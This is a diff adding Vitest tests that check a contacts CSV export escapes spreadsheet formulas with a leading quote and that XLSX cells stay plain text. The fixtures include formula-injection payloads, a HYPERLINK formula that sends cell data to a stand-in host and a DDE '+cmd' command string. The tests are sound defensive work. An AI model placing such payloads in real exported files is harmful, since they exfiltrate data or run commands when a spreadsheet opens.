@@ -1,3 +1,4 @@
+import { parse } from 'csv-parse/sync'
 import ExcelJS from 'exceljs'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { createToken } from '../../auth/credentials.js'
@@ -135,5 +136,56 @@ describe.each(dialects)('contact export on %s', (dialect) => {
     const r = await importFile(xlsx, XLSX_TYPE)
     expect(r.body).toEqual({ inserted: 0, updated: 3, rejected: [] })
     expect(await allRows()).toEqual(before)
+  })
+
+  it("neutralises formulas in the CSV export with a leading ', and its re-import restores the values", async () => {
+    // Given contacts whose text a spreadsheet would run as a formula
+    const hostile = {
+      F1: { name: '=HYPERLINK("http://x/?"&A1)', city: '-2+3', address: '@SUM(1)' },
+      F2: { name: "+cmd|' /C calc'!A0", city: "'=quoted", address: 'plain' },
+    }
+    for (const [no, v] of Object.entries(hostile))
+      await t.db.kysely
+        .insertInto('contacts')
+        .values({
+          no,
+          type: 'Company',
+          name: v.name,
+          search_name: no,
+          company_no: no,
+          company_name: v.name,
+          city: v.city,
+          address: v.address,
+          last_date_modified: '2020-01-01',
+        })
+        .execute()
+    const before = await allRows()
+    // When they are exported as CSV
+    const r = await download('/api/contacts/export?format=csv&filter[no]=F*')
+    const rows = parse(r.body) as string[][]
+    const cell = (no: string, field: string) => rows.find((x) => x[0] === no)?.[rows[0].indexOf(field)]
+    // Then every such cell starts with ' and others are untouched
+    expect([cell('F1', 'name'), cell('F1', 'city'), cell('F1', 'address')]).toEqual([
+      `'=HYPERLINK("http://x/?"&A1)`,
+      "'-2+3",
+      "'@SUM(1)",
+    ])
+    expect([cell('F2', 'name'), cell('F2', 'city'), cell('F2', 'address')]).toEqual([
+      "'+cmd|' /C calc'!A0",
+      "''=quoted",
+      'plain',
+    ])
+    // And importing the export again changes nothing
+    expect((await importFile(r.body)).body).toEqual({ inserted: 0, updated: 2, rejected: [] })
+    expect(await allRows()).toEqual(before)
+  })
+
+  it('writes the same contacts to XLSX as plain text cells, unquoted', async () => {
+    const r = await download('/api/contacts/export?format=xlsx&filter[no]=F1')
+    const wb = new ExcelJS.Workbook()
+    await wb.xlsx.load(r.rawPayload as unknown as ArrayBuffer)
+    const cell = wb.getWorksheet('Contacts')!.getRow(2).getCell(3)
+    expect(cell.value).toBe('=HYPERLINK("http://x/?"&A1)')
+    expect(cell.type).toBe(ExcelJS.ValueType.String)
   })
 })
